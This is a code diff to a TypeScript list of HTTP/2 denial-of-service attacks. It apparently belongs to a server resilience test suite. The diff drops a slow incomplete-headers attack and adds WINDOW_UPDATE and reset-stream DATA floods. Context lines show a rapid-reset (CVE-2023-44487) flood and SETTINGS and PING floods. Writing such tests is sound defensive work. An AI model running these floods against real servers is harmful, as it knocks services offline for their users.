@@ -75,10 +75,6 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
     const bytes = streams(50, (id) => [frame(FRAME.DATA, 0, id, Buffer.from(" "))]);
     return drip(socket, tools, () => bytes);
   }),
-  over("incomplete header sections", 500, (socket, tools) => {
-    socket.write(frame(FRAME.HEADERS, END_STREAM, 1, requestBlock()));
-    return untilGone(socket, tools);
-  }),
   over("rapid resets", 20, async (socket, tools) => {
     // CVE-2023-44487: immediate resets allow more streams than the limit of concurrent streams.
     socket.write(streams(2000, (id) => [get(id), frame(FRAME.RST_STREAM, 0, id, CANCEL)]));
@@ -205,6 +201,18 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   flood("RST_STREAM on a closed stream", frame(FRAME.RST_STREAM, 0, 1, CANCEL), get(1)),
   flood("WINDOW_UPDATE of one byte", update(0, 1)),
   flood("WINDOW_UPDATE on a closed stream", update(1, 2000), get(1)),
+  flood(
+    "WINDOW_UPDATE while 250 streams wait",
+    update(0, 1024),
+    frame(FRAME.SETTINGS, 0, 0, settings([4, 0])),
+    streams(250, (id) => [get(id, "/v1/countries")]),
+  ),
+  flood(
+    "DATA on a stream that the client reset",
+    frame(FRAME.DATA, 0, 1, Buffer.alloc(1000)),
+    post(1),
+    frame(FRAME.RST_STREAM, 0, 1, CANCEL),
+  ),
   flood("acknowledgements of PING", frame(FRAME.PING, 1, 0, Buffer.alloc(8))),
   flood("many settings", frame(FRAME.SETTINGS, 0, 0, settings(...Array(64).fill([4, 65_535])))),
   flood("bytes that are not HTTP/2", Buffer.alloc(1000, 0xff)),
